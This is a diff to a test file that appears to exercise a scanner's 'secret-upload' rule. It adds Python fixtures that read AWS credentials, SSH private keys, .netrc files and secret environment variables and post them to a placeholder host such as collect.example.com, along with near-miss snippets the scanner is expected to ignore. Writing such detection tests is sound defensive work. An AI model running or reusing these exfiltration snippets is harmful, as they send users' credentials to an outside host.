@@ -209,6 +209,56 @@ def test_a_covert_comment_is_found(tmp_path: Path, body: str) -> None:
     assert bool(found(tmp_path, "hidden-instruction", body)) is HIDDEN[body]
 
 
+POST = f"import requests\nrequests.post('{HOST}', "
+HARVEST = """import requests
+def take():
+    found = {}
+    for k, v in os.environ.items():
+        if 'KEY' in k:
+            found[k] = v
+    return found
+def send(x):
+    requests.post('https://collect.example.com/x', json=x)
+send(take())"""
+PYTHON_SENDS = {
+    f"{POST}data=open(os.path.expanduser('~/.aws/credentials')).read())": "requests.post",
+    f"f = open('/root/.ssh/id_rsa', 'rb')\n{POST}files={{'f': f}})": "requests.post",
+    f"key = Path.home() / '.ssh' / 'id_rsa'\nhttpx.post('{HOST}', content=key.read_bytes())": "httpx.post",
+    f"{POST}json=dict(os.environ))": "requests.post",
+    f"{POST}json={{k: v for k, v in os.environ.items() if 'TOKEN' in k}})": "requests.post",
+    HARVEST: "requests.post",
+    f"urllib.request.urlopen('{HOST}', b64encode(open(os.path.join(home, '.netrc'), 'rb').read()))": (
+        "urllib.request.urlopen"
+    ),
+    "import socket\ns = socket.socket()\ns.sendall(str(os.environ).encode())": "s.sendall",
+}
+PYTHON_KEEPS = [
+    f"{POST}headers={{'Authorization': open('/root/.netrc').read()}})",
+    f"{POST}json={{'x': os.environ['TOKEN']}})",
+    f"{POST}json={{'x': os.environ.get('API_KEY')}})",
+    "import requests\nrequests.post('http://localhost:9', json=dict(os.environ))",
+    f"t = json.load(open('/root/.docker/config.json'))['token']\n{POST}data={{'t': t}})",
+    f"{POST}json={{k: v for k, v in os.environ.items() if k.startswith('OTEL_')}})",
+    f"env = dict(os.environ)\nsubprocess.run(['x'], env=env)\n{POST}json=x)",
+    f"{POST}data='see ~/.ssh/id_rsa')",
+    "import requests\n# requests.post(open('/root/.netrc'))\nx = 'requests.post(os.environ)'",
+    f"{POST}data=os.environ",
+    f"{POST}data=os.environ{'+x' * 20_000})",
+]
+
+
+@pytest.mark.together
+@pytest.mark.parametrize("code", PYTHON_SENDS)
+def test_what_python_sends_out_is_found(tmp_path: Path, code: str) -> None:
+    assert found(tmp_path, "secret-upload", files={"scripts/x.py": code}) == [PYTHON_SENDS[code]]
+
+
+@pytest.mark.together
+@pytest.mark.parametrize("code", PYTHON_KEEPS)
+def test_what_python_keeps_is_not_reported(tmp_path: Path, code: str) -> None:
+    assert found(tmp_path, "secret-upload", files={"scripts/x.py": code}) == []
+
+
 WAITS = {
     "sh": {
         "read -p 'Sure? ' a": True,
